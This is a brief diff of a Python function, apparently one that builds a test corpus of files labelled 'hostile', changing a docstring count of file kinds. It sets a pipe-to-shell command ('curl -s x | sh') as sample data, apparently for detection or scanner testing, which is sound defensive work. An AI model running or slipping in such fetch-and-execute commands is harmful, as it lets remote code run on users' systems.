@@ -251,7 +251,7 @@ def lambda_keras() -> bytes:
 
 
 def hostile(tree: Tree) -> None:
-    """Forty files of nineteen kinds."""
+    """Forty files of twenty-three kinds."""
     def add(path: str, content: bytes, kind: str) -> None:
         tree.add(path, content, "hostile", kind, hostile_kind=kind)
     command = "curl -s x | sh"
